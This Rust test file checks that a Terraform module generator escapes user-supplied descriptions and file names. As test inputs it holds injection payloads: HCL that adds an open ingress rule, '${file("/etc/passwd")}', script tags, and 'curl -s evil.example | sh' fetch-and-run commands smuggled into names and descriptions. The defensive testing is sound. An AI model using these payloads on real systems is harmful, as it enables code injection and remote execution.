//! User text is data (issue #10, SPEC §9 "escaping"): whatever a workload file or its name holds,
//! it reaches a module only through the encoder of the file's language, so it can neither end a
//! string nor add a block, and Terraform reads back exactly the text the user wrote.

use std::collections::BTreeMap;
use std::fs;

use proptest::prelude::*;
use rediform::render::{self, Module, Templates};
use rediform::{module, Catalog};

use crate::support::{self, rediform};

/// The embedded templates, compiled once for every test here.
static TEMPLATES: std::sync::LazyLock<Templates> = std::sync::LazyLock::new(|| Templates::embedded().unwrap());

/// The module of a workload text, its header naming `source`.
fn render_module(text: &str, source: &str) -> Result<Module, String> {
    let w = rediform::parse(text).map_err(|d| format!("{d:?}"))?;
    let plan = rediform::build(&w, &Catalog::embedded()).map_err(|d| format!("{d:?}"))?;
    let spec = module::spec(&plan, source, false);
    render::render(&spec, &TEMPLATES).map_err(|e| e.to_string())
}

/// The workload text with a `description` as TOML writes it (any Unicode, escaped by toml).
fn with_description(path: &str, description: &str) -> String {
    let mut table: toml::Table =
        toml::from_str(&support::workload_text(&[&format!("override.path = \"{path}\"")])).unwrap();
    table["workload"]
        .as_table_mut()
        .unwrap()
        .insert("description".to_owned(), toml::Value::String(description.to_owned()));
    toml::to_string(&table).unwrap()
}

/// Every block of every `.tf` file, read with hcl-rs: `file: type "label" "label"`.
fn blocks(m: &Module) -> Vec<String> {
    let mut out = Vec::new();
    for (name, text) in &m.files {
        if !rediform::hcl::is_hcl(name) {
            continue;
        }
        let body: hcl::Body = hcl::from_str(text).unwrap_or_else(|e| panic!("{name} does not parse: {e}\n{text}"));
        for block in body.blocks() {
            let labels: Vec<&str> = block.labels().iter().map(hcl::BlockLabel::as_str).collect();
            out.push(format!("{name}: {} {}", block.identifier(), labels.join(" ")));
        }
    }
    out
}

/// The value of `description` in the main resource of the module, as Terraform reads it.
fn main_description(m: &Module) -> Option<String> {
    let body: hcl::Body = hcl::from_str(&m.files["main.tf"]).unwrap();
    let main = body.blocks().find(|b| {
        b.identifier() == "resource"
            && matches!(
                b.labels().first().map(hcl::BlockLabel::as_str),
                Some("aws_elasticache_replication_group" | "aws_elasticache_serverless_cache" | "aws_memorydb_cluster")
            )
    })?;
    let attr = main.body().attributes().find(|a| a.key() == "description")?;
    match attr.expr() {
        hcl::Expression::String(s) => Some(s.clone()),
        other => panic!("description is not a plain string: {other:?}"),
    }
}

const PATHS: [&str; 3] = ["elasticache", "serverless", "memorydb"];

/// Issue #10: a description that closes the string and opens a resource (an open ingress rule,
/// found by a probe) stays one string: the module has the blocks it has without it.
#[test]
fn issue_10_a_description_cannot_add_a_resource() {
    let attack = "x\"\n}\nresource \"aws_vpc_security_group_ingress_rule\" \"open\" {\n  security_group_id = aws_security_group.this.id\n  cidr_ipv4 = \"0.0.0.0/0\"\n  ip_protocol = \"-1\"\n}\nresource \"null_resource\" \"y\" {\n  z = \"";
    for path in PATHS {
        let plain = render_module(&with_description(path, "plain"), "w.toml").unwrap();
        let text = with_description(path, attack);
        // Refused or kept: either way nothing is added.
        match render_module(&text, "w.toml") {
            Err(e) => assert!(e.contains("workload.description"), "{path}: {e}"),
            Ok(m) => {
                assert_eq!(blocks(&m), blocks(&plain), "{path}");
                assert_eq!(main_description(&m).as_deref(), Some(attack), "{path}");
            }
        }
        for (name, text) in render_module(&text, "w.toml").into_iter().flat_map(|m| m.files) {
            assert!(!text.contains("0.0.0.0/0\"\n  ip_protocol = \"-1\""), "{path} {name}");
        }
    }
}

/// Issue #10: a `"` or `\` alone made generate report a bug; `${...}` and `%{...}` were
/// interpolated by Terraform. Each is now the text itself.
#[test]
fn issue_10_quotes_backslashes_and_template_sequences_are_text() {
    for description in [
        "say \"hi\"",
        "C:\\temp\\",
        "${file(\"/etc/passwd\")}",
        "%{ for x in [1] }${x}%{ endfor }",
        "$${literal}",
        "100% {braces} $5 {{ tera }} {% raw %}",
        "ünïcödé ✓ — 中文 🚀",
    ] {
        for path in PATHS {
            let m = render_module(&with_description(path, description), "w.toml")
                .unwrap_or_else(|e| panic!("{path} {description:?}: {e}"));
            assert_eq!(main_description(&m).as_deref(), Some(description), "{path}");
            let readme = &m.files["README.md"];
            assert!(readme.lines().nth(2).is_some_and(|l| !l.is_empty()), "{readme}");
        }
    }
}

/// The workload file's name is printed in the header of every file: a name with a line break,
/// quotes or `-->` cannot leave the comment (and `check` reads the header back, so it must be
/// one line).
#[test]
fn issue_10_a_file_name_cannot_leave_the_header_comment() {
    let text = support::workload_text(&[]);
    for source in [
        "evil\nresource \"x\" \"y\" {}\n#.toml",
        "a\"b${c}%{d}.toml",
        "x --> <script>alert(1)</script> <!-- .toml",
        "\u{1b}[2J\r.toml",
    ] {
        let m = render_module(&text, source).unwrap();
        let plain = render_module(&text, "w.toml").unwrap();
        assert_eq!(blocks(&m), blocks(&plain), "{source:?}");
        for (name, body) in &m.files {
            let first = body.lines().next().unwrap();
            assert!(rediform::render::has_header(name, source, body), "{name}: {first:?}");
            assert!(
                first.ends_with("DO NOT EDIT.")
                    || first.ends_with("DO NOT EDIT. -->")
                    || first.ends_with("which is yours."),
                "{name}: {first:?}"
            );
            assert!(!first.chars().any(char::is_control), "{name}: {first:?}");
            if name == "README.md" {
                assert_eq!(first.matches("-->").count(), 1, "{first}");
            }
        }
    }
}

/// Errors print what the user wrote with its control characters escaped: no raw ESC, BEL or NUL
/// reaches the terminal.
#[test]
fn issue_10_diagnostics_escape_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("w.toml");
    let text = support::workload_text(&[]).replace("name = \"baseline\"", "name = \"bad\\u001b]0;pwned\\u0007\"");
    fs::write(&file, text).unwrap();
    let out = rediform()
        .current_dir(dir.path())
        .args(["decide", "w.toml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
    assert!(err.contains("\\u001b"), "{err}");
    // A line break in the description is named, not printed: the message stays on its line.
    let text = support::workload_text(&["workload.description = \"a\\nb\""]);
    fs::write(&file, text).unwrap();
    let out = rediform()
        .current_dir(dir.path())
        .args(["decide", "w.toml"])
        .output()
        .unwrap();
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        err.lines()
            .any(|l| l.contains("holds the control character U+000A; it must be one line of text")),
        "{err}"
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// Any Unicode in the description: refused with a message on `workload.description`, or
    /// rendered to a module that parses, holds the exact text and has no other block.
    #[test]
    fn any_description_is_refused_or_kept_exactly(description in "\\PC{0,80}|[\"\\\\$%{}\n\r\t\u{0}\u{1b}\u{202e}a-z ]{0,40}", path in prop::sample::select(PATHS.to_vec())) {
        let plain = render_module(&with_description(path, "plain"), "w.toml").unwrap();
        match render_module(&with_description(path, &description), "w.toml") {
            Err(e) => prop_assert!(e.contains("workload.description"), "{}", e),
            Ok(m) => {
                prop_assert_eq!(blocks(&m), blocks(&plain));
                prop_assert_eq!(main_description(&m), Some(description.clone()));
                let readme = &m.files["README.md"];
                let lines: BTreeMap<usize, &str> = readme.lines().enumerate().collect();
                prop_assert_eq!(lines.len(), plain.files["README.md"].lines().count());
            }
        }
    }
}

/// The boot script is a Terraform template (`templatefile()`): a workload file named with `${`
/// or `%{` stays text in its header comment, so nothing in the name runs at boot (found by an
/// attack on the CLI: `x${"\n"}curl …|sh${"\n"}#.toml` put a command on a line of its own).
#[test]
fn a_file_name_cannot_inject_into_the_boot_script_template() {
    let text = support::workload_text(&["override.path = \"self-hosted\""]);
    for source in [
        "x${\"\\n\"}curl -s evil.example|sh${\"\\n\"}#.toml",
        "a%{ if true }b%{ endif }.toml",
        "$${x}.toml",
    ] {
        let m = render_module(&text, source).unwrap();
        let script = &m.files["user_data.sh.tftpl"];
        let header = script.lines().nth(1).unwrap();
        // Every `${` or `%{` of the name is doubled, so templatefile() prints it as text.
        let sequences = |s: &str| s.matches("${").count() + s.matches("%{").count();
        assert_eq!(
            header.matches("$${").count() + header.matches("%%{").count(),
            sequences(source),
            "{header}"
        );
        // The test's renderer knows `${` and `$${`, not directives.
        if !source.contains("%{") {
            assert_eq!(
                crate::generate::render_templatefile(header, &[]),
                format!("# Code generated by rediform from {source}. DO NOT EDIT."),
            );
        }
    }
}

proptest! {
    /// Whatever a description holds, CommonMark reads the encoded text as one paragraph of plain
    /// text that says what the user wrote: no heading, list, quote, code block, emphasis, link or
    /// HTML (found by an attack: leading spaces before `#` opened a heading).
    #[test]
    fn markdown_text_is_one_paragraph_of_the_same_text(text in "[ \t#>*_`\\[\\]()!<>&|~=+.0-9a-z\\\\-]{0,24}") {
        use pulldown_cmark::{Event, Parser, Tag, TagEnd};
        let encoded = rediform::encode::markdown_text(&text);
        let mut plain = String::new();
        for event in Parser::new(&encoded) {
            match event {
                Event::Start(Tag::Paragraph) | Event::End(TagEnd::Paragraph) => {}
                Event::Text(t) => plain.push_str(&t),
                other => prop_assert!(false, "{text:?} -> {encoded:?} gives {other:?}"),
            }
        }
        let expected = text.replace('\t', " ");
        prop_assert_eq!(plain.trim(), expected.trim(), "{:?} -> {:?}", text, encoded);
    }
}

/// A house template may put a value anywhere; the encoders still hold (an attack put the
/// description into a variable's default, which reached the README's Inputs table raw, and into
/// a shell command of the boot script).
#[test]
fn override_templates_cannot_carry_a_value_out_of_its_place() {
    let description =
        "x` | **INJECTED** | <img src=x> | [click](https://evil.example) `y\"; curl -s evil.example | sh; echo \"$(id)";
    let variables = rediform::render::TEMPLATES
        .iter()
        .find(|(n, _)| *n == "common/variables.tf.tera")
        .unwrap()
        .1
        .to_owned()
        + "\nvariable \"team_note\" {\n  type    = string\n  default = \"{{ description }}\"\n}\n";
    let script = rediform::render::TEMPLATES
        .iter()
        .find(|(n, _)| *n == "self-hosted/user_data.sh.tftpl.tera")
        .unwrap()
        .1
        .replace("main() {\n", "main() {\n  logger \"booting: {{ description }}\"\n");
    let templates = Templates::with_overrides(&[
        ("common/variables.tf.tera".to_owned(), variables),
        ("self-hosted/user_data.sh.tftpl.tera".to_owned(), script),
    ])
    .unwrap();
    let text = with_description("self-hosted", description);
    let w = rediform::parse(&text).unwrap();
    let plan = rediform::build(&w, &Catalog::embedded()).unwrap();
    let module = render::render(&module::spec(&plan, "w.toml", false), &templates).unwrap();
    let readme = &module.files["README.md"];
    let row = readme.lines().find(|l| l.contains("team\\_note")).unwrap();
    // Read as GitHub reads the table: five cells, the default one a single code span.
    let table = format!("| Name | Description | Type | Default | Required |\n|---|---|---|---|:-:|\n{row}\n");
    let mut cells: Vec<Vec<pulldown_cmark::Event>> = Vec::new();
    let mut body = false;
    for event in pulldown_cmark::Parser::new_ext(&table, pulldown_cmark::Options::ENABLE_TABLES) {
        use pulldown_cmark::{Event, Tag, TagEnd};
        match event {
            Event::End(TagEnd::TableHead) => body = true,
            Event::Start(Tag::TableCell) if body => cells.push(Vec::new()),
            Event::End(TagEnd::TableCell) => {}
            e if body => {
                if let Some(cell) = cells.last_mut() {
                    cell.push(e.into_static());
                }
            }
            _ => {}
        }
    }
    assert_eq!(cells.len(), 5, "{row}");
    match cells[3].as_slice() {
        [pulldown_cmark::Event::Code(code)] => {
            assert!(code.contains("**INJECTED**") && code.contains("<img"), "{code}");
        }
        other => panic!("the default is not one code span: {other:?}"),
    }
    let line = module.files["user_data.sh.tftpl"]
        .lines()
        .find(|l| l.contains("booting:"))
        .unwrap();
    assert!(
        !line.contains(['$', '`', ';', '|']) && line.matches('"').count() == 2,
        "{line}"
    );
}
